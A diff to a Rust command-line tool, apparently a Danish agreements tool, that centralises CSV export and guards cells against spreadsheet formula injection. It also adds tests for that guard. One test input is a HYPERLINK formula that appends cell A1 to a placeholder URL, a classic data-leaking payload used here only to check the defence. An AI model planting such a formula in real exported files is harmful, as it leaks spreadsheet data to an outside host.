@@ -16,6 +16,8 @@ mod subprocessors;
 mod table;
 mod topics;
 
+use table::{fit_table, Column};
+
 use std::ffi::OsString;
 use std::io::{self, Write};
 use std::path::PathBuf;
@@ -198,32 +200,30 @@ impl Out {
         self.line(line)
     }
 
-    /// A CSV table: the header row, then one row per item.
-    fn csv<const N: usize>(
+    /// A CSV table as `--csv [--csv-sep C]` asks for it (see [`Out::csv_rows_sep`]).
+    fn csv_table<const N: usize>(
         &mut self,
+        args: &CsvArgs,
         header: [&str; N],
         rows: impl Iterator<Item = [String; N]>,
     ) -> Result<(), Error> {
         let header: Vec<String> = header.iter().map(|h| h.to_string()).collect();
-        self.csv_rows(&header, rows.map(Vec::from))
+        self.csv_rows_sep(args.csv_sep, &header, rows.map(Vec::from))
     }
 
-    /// A CSV table of any width: the header row, then the rows.
-    fn csv_rows(
+    /// The one CSV writer: a UTF-8 byte order mark (so a spreadsheet reads æøå right), the
+    /// header row, then the rows, cells separated by `sep` and quoted where needed. Every cell
+    /// goes through [`spreadsheet_safe`], so no cell runs as a formula.
+    fn csv_rows_sep(
         &mut self,
+        sep: u8,
         header: &[String],
-        mut rows: impl Iterator<Item = Vec<String>>,
+        rows: impl Iterator<Item = Vec<String>>,
     ) -> Result<(), Error> {
-        let mut w = csv::Writer::from_writer(&mut self.inner);
-        let written = w
-            .write_record(header)
-            .and_then(|_| rows.try_for_each(|r| w.write_record(r)));
-        written
-            .and_then(|_| w.flush().map_err(csv::Error::from))
-            .map_err(|e| match e.into_kind() {
-                csv::ErrorKind::Io(io) => Error::Io(io),
-                other => Error::Usage(format!("cannot write CSV: {other:?}")),
-            })
+        write_csv(&mut self.inner, sep, header, rows).map_err(|e| match e.into_kind() {
+            csv::ErrorKind::Io(io) => Error::Io(io),
+            other => Error::Usage(format!("cannot write CSV: {other:?}")),
+        })
     }
 
     fn flush(&mut self) -> Result<(), Error> {
@@ -232,14 +232,45 @@ impl Out {
     }
 }
 
-/// A cell as a spreadsheet should show it: text that a spreadsheet would run as a formula
-/// (starting with `=`, `+`, `-`, `@`, TAB or CR) gets a leading apostrophe.
+/// A cell as a spreadsheet should show it (the OWASP rule against CSV injection): text that a
+/// spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, TAB or CR) gets a
+/// leading apostrophe. A plain negative number (`-5`, `-0,5`) stays as it is: a spreadsheet
+/// reads it as a number, not a formula. A cell already guarded keeps its one apostrophe.
 fn spreadsheet_safe(cell: &str) -> String {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_negative_number(cell) {
         format!("'{cell}")
     } else {
         cell.to_string()
     }
+}
+
+/// `-` followed by digits with at most one decimal point or comma.
+fn is_plain_negative_number(cell: &str) -> bool {
+    let Some(digits) = cell.strip_prefix('-') else {
+        return false;
+    };
+    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
+    !whole.is_empty()
+        && !fraction.is_empty()
+        && whole.chars().all(|c| c.is_ascii_digit())
+        && fraction.chars().all(|c| c.is_ascii_digit())
+}
+
+/// Write a CSV table to `w`: byte order mark, header, rows, every cell [`spreadsheet_safe`].
+fn write_csv(
+    w: impl Write,
+    sep: u8,
+    header: &[String],
+    mut rows: impl Iterator<Item = Vec<String>>,
+) -> Result<(), csv::Error> {
+    let mut w = w;
+    w.write_all("\u{feff}".as_bytes())?;
+    let mut w = csv::WriterBuilder::new().delimiter(sep).from_writer(w);
+    let safe = |row: &[String]| row.iter().map(|c| spreadsheet_safe(c)).collect::<Vec<_>>();
+    w.write_record(safe(header))?;
+    rows.try_for_each(|r| w.write_record(safe(&r)))?;
+    w.flush()?;
+    Ok(())
 }
 
 /// The width of the terminal stdout goes to, for tables that should fit it: `None` when stdout
@@ -305,6 +336,159 @@ fn terminal_safe(s: &str) -> std::borrow::Cow<'_, str> {
         }
     }
     std::borrow::Cow::Owned(out)
+}
+
+/// `--csv` and `--csv-sep`, shared by the commands that print CSV.
+#[derive(Debug, Clone, clap::Args)]
+struct CsvArgs {
+    /// Print CSV with a header row (UTF-8 with a byte order mark; a cell a spreadsheet would run
+    /// as a formula starts with `'`)
+    #[arg(long)]
+    csv: bool,
+    /// The CSV field separator, one ASCII character: `;` for a spreadsheet set up for Danish
+    #[arg(long, value_name = "CHAR", default_value = ",", value_parser = csv_separator, requires = "csv")]
+    csv_sep: u8,
+}
+
+/// `--csv-sep`: one ASCII character that is not a quote or a line break.
+fn csv_separator(s: &str) -> Result<u8, String> {
+    match s.as_bytes() {
+        [c] if c.is_ascii() && !matches!(c, b'"' | b'\n' | b'\r') => Ok(*c),
+        _ => Err(format!(
+            "{s:?} is no CSV separator: give one ASCII character other than a quote or a line \
+             break, e.g. ';' or ','"
+        )),
+    }
+}
+
+/// `what` as the command line asked for it (`--name acme --third-country`), for an answer
+/// that found nothing.
+fn asked(parts: &[(&str, Option<String>)]) -> String {
+    parts
+        .iter()
+        .map(|(flag, value)| match value {
+            Some(v) if v.contains(char::is_whitespace) || v.is_empty() => format!("{flag} {v:?}"),
+            Some(v) => format!("{flag} {v}"),
+            None => flag.to_string(),
+        })
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Tell that an answer is empty and what was asked: on stdout for a text table, on stderr
+/// beside JSON and CSV (whose stdout stays data).
+fn say_empty(out: &mut Out, machine: bool, message: &str) -> Result<(), Error> {
+    if machine {
+        out.flush()?;
+        eprintln!("aftale: {}", terminal_safe(message));
+        Ok(())
+    } else {
+        out.line(message)
+    }
+}
+
+/// `n agreement(s)`.
+fn agreements_count(n: usize) -> String {
+    format!("{n} {}", if n == 1 { "agreement" } else { "agreements" })
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::*;
+
+    fn written(sep: u8, rows: Vec<Vec<String>>) -> String {
+        let mut buf = Vec::new();
+        write_csv(
+            &mut buf,
+            sep,
+            &["a".to_string(), "b".to_string()],
+            rows.into_iter(),
+        )
+        .expect("write");
+        String::from_utf8(buf).expect("utf-8")
+    }
+
+    #[test]
+    fn cells_round_trip_and_never_run_as_formulas() {
+        let cells = [
+            "=HYPERLINK(\"http://x\"&A1,\"Klik\")",
+            "+45 12 34",
+            "@SUM(A1)",
+            "-A1",
+            "\tx",
+            "\rx",
+            "semi; colon",
+            "quote \" in",
+            "line\nbreak",
+            "-5",
+            "-0,5",
+            "æøå",
+        ];
+        let rows: Vec<Vec<String>> = cells
+            .chunks(2)
+            .map(|c| c.iter().map(|s| s.to_string()).collect())
+            .collect();
+        for sep in [b',', b';', b'\t'] {
+            let text = written(sep, rows.clone());
+            assert!(text.starts_with('\u{feff}'));
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(sep)
+                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+            let got: Vec<String> = reader
+                .records()
+                .flat_map(|r| {
+                    r.expect("record")
+                        .iter()
+                        .map(str::to_string)
+                        .collect::<Vec<_>>()
+                })
+                .collect();
+            assert_eq!(got.len(), cells.len());
+            for (cell, back) in cells.iter().zip(&got) {
+                assert!(!back.starts_with(['=', '+', '@', '\t', '\r']), "{back:?}");
+                assert!(
+                    !back.starts_with('-') || is_plain_negative_number(back),
+                    "{back:?}"
+                );
+                assert_eq!(back.strip_prefix('\'').unwrap_or(back), *cell);
+            }
+        }
+    }
+
+    #[test]
+    fn separators_are_one_ascii_character() {
+        assert_eq!(csv_separator(";"), Ok(b';'));
+        assert_eq!(csv_separator("\t"), Ok(b'\t'));
+        for bad in ["", ";;", "\"", "\n", "§"] {
+            assert!(csv_separator(bad).is_err(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn tables_fit_the_width_by_shrinking_free_text() {
+        let columns = [
+            Column::text("NAME", 40, 8),
+            Column::fixed("ID", 10),
+            Column::right("N", 4),
+            Column::text("TEXT", 60, 10),
+        ];
+        let rows = vec![vec![
+            "A rather long company name that goes on".to_string(),
+            "12345678".to_string(),
+            "3".to_string(),
+            "Free text ".repeat(10),
+        ]];
+        let wide = fit_table(&columns, &rows, None);
+        assert!(wide[1].contains("goes on") && wide[1].ends_with('…'));
+        for width in [40, 60, 80] {
+            let fitted = fit_table(&columns, &rows, Some(width));
+            assert!(
+                fitted.iter().all(|l| l.chars().count() <= width),
+                "{width}: {fitted:#?}"
+            );
+            assert!(fitted[1].contains("12345678"));
+        }
+    }
 }
 
 #[cfg(test)]
